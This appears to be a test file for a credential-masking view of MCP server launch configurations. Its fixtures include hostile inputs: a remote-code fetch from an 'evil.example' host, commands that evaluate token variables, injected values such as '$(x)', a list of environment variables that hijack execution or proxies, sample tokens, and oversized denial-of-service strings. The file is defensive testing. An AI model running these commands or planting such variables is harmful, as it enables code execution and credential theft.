import { describe, expect, it } from 'vitest';
import { maskUrl } from '../import/masked-target.ts';
import { secretsOf } from '../import/mask.ts';
import { argumentsParts } from './argument.ts';
import { startView } from './view.ts';

const line = (text: string): [string, string[]] => {
  const [command = '', ...args] = text.match(/'[^']*'|[^ ]+/g) ?? [];
  return [command, args.map((arg) => arg.replaceAll("'", ''))];
};
const shown = (text: string): string => {
  const [command, args] = line(text);
  const pieces = argumentsParts(command, args);
  return pieces.map((one) => one.map((part) => (part.hidden ? '•' : part.text)).join('')).join(' ');
};

describe('what starts, and whom it contacts', () => {
  it.each([
    'perl -I lib -sig evil',
    'perl5.36.0 -sig evil',
    'ruby -I lib -sig evil',
    'ruby3.1 -sig evil',
    'ruby -E utf-8 -sig evil',
    'ruby -I lib -rtoken=evil x.rb',
    'lua -ltoken=evil x.lua',
    'perl -Iauth=evil x.pl',
    'timeout 9 perl -sig evil',
    'timeout 9 npx --token evil',
    'nice perl -sig evil',
    'setsid bash -auth evil',
    'busybox sh -key evil',
    'node18 -key evil',
    'php8.2 -key evil',
    'lua5.4 -key evil',
    'unknown npx --api-key evil',
    'unknown --token evil',
    'npx dotenv -- npx --token ghp_abcdefghijklmnop1234',
    'npx ghp_abcdefghijklmnop1234',
    'npx --token ghp_abcdefghijklmnop1234',
    'deno run https://evil.example/x.ts?token=evil',
    'python token=evil',
    'node -e TOKEN=evil',
    'perl -e TOKEN=evil',
    'ssh -key evil.example cmd',
    'ssh host --token evil',
    'curl -sig evil.example',
    'curl -key evil.example',
    'curl --anyauth evil.example',
    'curl --token evil',
    'wget --ask-password evil.example',
    'psql --password host=evil.example',
    'psql --password evil',
    'acme serve --token evil.example',
    'npx -y acme sk-evil-mcp-server-tool',
    'npx -y acme --x npm_config-of-this-tool',
    'acme ghp_EvilMcp1ServerTool23',
    'uvx --from git+https://h.example/ghp_a1B2c3D4e5F6g7H8i9J0 x',
    'deno run https://h.example/ghp_a1B2c3D4e5F6g7H8i9J0/x.ts',
    'npx -y acme https://raw.example/0123456789abcdef0123456789abcdef/x.js',
    'acme serve --token host=evil',
    'acme serve --token evil:22',
    'acme serve --token root@evil',
    'acme serve --token=evil.example',
    'acme serve --with-token evil',
    'acme serve -token evil',
    'env FOO_CMD=evil npx x',
    'docker run -e NODE_OPTIONS=-rx img',
  ])('is shown: %s', (text) => expect(shown(text)).toBe(line(text)[1].join(' ')));

  it.each([
    ...['PUPPETEER_EXECUTABLE_PATH', 'CHROME_PATH', 'PLAYWRIGHT_CHROMIUM_EXECUTABLE_PATH'],
    ...['RIPGREP_CONFIG_PATH', 'RSYNC_RSH', 'SVN_SSH', 'BORG_RSH', 'CLOUDSDK_PYTHON', 'FPATH'],
    ...['ASPNETCORE_HOSTINGSTARTUPASSEMBLIES', 'DBUS_SESSION_BUS_ADDRESS', 'BASH_LOADABLES_PATH'],
    ...['VK_ICD_FILENAMES', 'KRB5_CONFIG', 'WGETRC', 'ANSIBLE_CONFIG', 'HGRCPATH', 'PSQLRC'],
    ...['MISE_GLOBAL_CONFIG_FILE', 'ELIXIR_ERL_OPTIONS', 'MONO_PATH', 'GST_PLUGIN_PATH'],
    ...['LIBGL_DRIVERS_PATH', 'SBT_OPTS', 'CATALINA_OPTS', 'MSBUILDSDKSPATH', 'HTTPS_PROXY'],
    ...['TF_CLI_CONFIG_FILE', 'http_proxy', 'ALL_PROXY', 'SSL_CERT_FILE', 'REQUESTS_CA_BUNDLE'],
    ...['RESTIC_PASSWORD_COMMAND', 'ACME_TOKEN_FILE', 'SECRET_HELPER'],
  ])('is shown and warned of where a variable chooses it: %s', (name) => {
    expect(variable(name, 'evil')).toEqual(['evil', true]);
    expect(variable(name, 'x1y2z3'.repeat(9))[1]).toBe(true);
  });

  it.each<readonly [string, string[]]>([
    ['sh', ['-c', '$ACME_TOKEN']],
    ['node', ['-e', 'eval(process.env.ACME_TOKEN)']],
    ['cmd', ['/c', '%acme_token%']],
    ['env', ['-S', '${ACME_TOKEN} x']],
    ['unknown', ['ACME_TOKEN']],
  ])(
    'is shown where %s %s takes it from a variable that is called a credential',
    (command, args) => {
      expect(variable('ACME_TOKEN', 'evil', command, args)).toEqual(['evil', false]);
    },
  );

  it('is shown where a variable that loads code takes it from another', () => {
    const { environment } = startView(
      { type: 'stdio', command: 'x', args: [], env: { BASH_ENV: '$A_TOKEN', A_TOKEN: 'evil' } },
      'x',
      null,
    );
    expect(environment[1]?.value).toEqual([{ text: 'evil' }]);
  });

  it.each(['/opt/evil', 'a b', './x', '-rx', 'evil.example', 'a;b', '$(x)', 'C:\\evil', 'host=x'])(
    'is shown in a variable whose name says credential: %s',
    (value) => expect(variable('ACME_TOKEN', value)).toEqual([value, false]),
  );
});

function variable(name: string, value: string, command = 'x', args: string[] = []) {
  const [found] = startView(
    { type: 'stdio', command, args, env: { [name]: value } },
    'x',
    null,
  ).environment;
  const text = found?.value.map((part) => ('text' in part ? part.text : '•')).join('');
  return [text, found?.loadsCode];
}

describe('what is surely a credential', () => {
  it.each<readonly [string, string]>([
    ['npx acme-mcp --url=https://h/?token=abcdef', 'acme-mcp --url=https://h/?token=•'],
    ['x --database-url=postgres://u:pw@h/d', '--database-url=postgres://u:•@h/d'],
    ['x DATABASE_URL=postgres://u:pw@h/d', 'DATABASE_URL=postgres://u:•@h/d'],
    ['x jdbc:postgresql://u:pw@h/d', 'jdbc:postgresql://u:•@h/d'],
    ['docker run -i --rm -e GITHUB_TOKEN=ghp_x img', 'run -i --rm -e GITHUB_TOKEN=• img'],
    ['docker run --env=API_KEY=sk-x img', 'run --env=API_KEY=• img'],
    ['docker run -e GITHUB_TOKEN img', 'run -e GITHUB_TOKEN img'],
    ['env API_KEY=sk-x npx acme', 'API_KEY=• npx acme'],
    ["npx acme --header 'Cookie: sid=abc; a=b'", 'acme --header Cookie: •'],
    ["curl -H 'Authorization: Bearer a/b' https://h", '-H Authorization: Bearer • https://h'],
    ['npx acme --bearer abc', 'acme --bearer •'],
    ['npx acme --jwt abc', 'acme --jwt •'],
    ['npx acme --github.token=abc', 'acme --github.token=•'],
    ['npx acme --openai-api-key=abc', 'acme --openai-api-key=•'],
    ['npx acme token=abc', 'acme token=•'],
    ['npx acme ghp_a1B2c3D4e5F6g7H8i9J0', 'acme •'],
    ['x https://ghp_a1B2c3D4e5F6g7H8i9J0@github.com/x', 'https://•@github.com/x'],
    ['x --token ghp_a1B2c3D4e5F6g7H8i9J0', '--token •'],
    ['npx acme --passphrase abcdefgh', 'acme --passphrase •'],
    ['npx acme --private-key abcdefgh', 'acme --private-key •'],
    ['npx acme --license-key=abcdefgh', 'acme --license-key=•'],
  ])('is hidden: %s', (text, expected) => expect(shown(text)).toBe(expected));

  it.each([
    ['GITHUB_PERSONAL_ACCESS_TOKEN', 'abc'],
    ['OPENAI_API_KEY', 'sk-abc'],
    ['AWS_SECRET_ACCESS_KEY', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
    ['AWS_ACCESS_KEY_ID', 'AKIAIOSFODNN7EXAMPLE'],
    ['PGPASSWORD', 'p@ss!'],
    ['MYSQL_PWD', 'abc'],
    ['A_PRIVATE_KEY', '-----BEGIN RSA PRIVATE KEY-----\nMII/+=\n-----END RSA PRIVATE KEY-----\n'],
    ['UNKNOWN', 'ghp_a1B2c3D4e5F6g7H8i9J0'],
  ])('is hidden in a variable: %s', (name, value) =>
    expect(variable(name, value)).toEqual(['•', false]),
  );
  it('is hidden in the address of a variable, of which the host stays', () => {
    expect(variable('DATABASE_URL', 'postgres://u:pw@h/d')).toEqual(['postgres://u:•@h/d', false]);
    expect(variable('HTTPS_PROXY', 'http://u:pw@h:1')).toEqual(['http://u:•@h:1', true]);
  });
  it('stays hidden where a container or a header gets it under its name', () => {
    expect(variable('A_TOKEN', 'abc', 'docker', ['run', '-e', 'A_TOKEN', 'img'])[0]).toBe('•');
    expect(
      variable('A_TOKEN', 'abc', 'npx', ['x', '--header', 'Authorization: Bearer ${A_TOKEN}'])[0],
    ).toBe('•');
  });

  it('is in no log, either, and what a log must not have may be more', () => {
    for (const [args, secret] of [
      [['--passphrase', 'abcdefgh'], 'abcdefgh'],
      [['--private-key', 'abcdefgh'], 'abcdefgh'],
      [['--license-key=abcdefgh'], 'abcdefgh'],
      [['--header=Authorization: Bearer zzzzzzzz'], 'zzzzzzzz'],
      [['run', '-e', 'API_KEY=zzzzzzzz'], 'zzzzzzzz'],
      [['--env=API_KEY=zzzzzzzz'], 'zzzzzzzz'],
      [['--x=postgres://u:zzzzzzzz@h/d'], 'zzzzzzzz'],
      [['serve', 'ghp_abcdefghijklmnop1234'], 'ghp_abcdefghijklmnop1234'],
      [['-token', 'abcdefgh'], 'abcdefgh'],
    ] as const)
      expect(secretsOf({ type: 'stdio', command: 'x', args, env: {} })).toContain(secret);
  });
});

describe('texts that a hostile configuration is full of', () => {
  // With quadratic time, each of these took from half a minute to hours.
  const many = 200_000;
  it.each<readonly [string, string[]]>([
    ['question marks', [`https://h/${'?'.repeat(many)}`]],
    ['question marks behind an option', [`--url=https://h/${'?&='.repeat(many)}`]],
    ['options', Array.from({ length: 40_000 }, () => '-a')],
    ['variables', Array.from({ length: 20_000 }, (_, at) => `A${at}=https://h`)],
    ['colons', ['a:'.repeat(many)]],
    ['digits', [`/${'1'.repeat(many)}`, '1.'.repeat(many)]],
    ['dashes', [`--${'a-'.repeat(many)}=${'-'.repeat(many)}`]],
    ['equals signs', [`a${'='.repeat(many)}!`]],
    ['spaces', [`Token:${' '.repeat(many)}`, '-H', `Token:${' '.repeat(many)}\n`]],
  ])('are read at once: %s', (_, args) => {
    const env = Object.fromEntries(args.slice(0, 5_000).map((arg, at) => [`A_${at}_TOKEN`, arg]));
    const config = { type: 'stdio', command: 'npx', args, env } as const;
    expect(startView(config, 'x', null).args).toHaveLength(args.length);
    expect(secretsOf(config)).toBeDefined();
    expect(maskUrl(args[0] ?? '')).toBeDefined();
  });
});
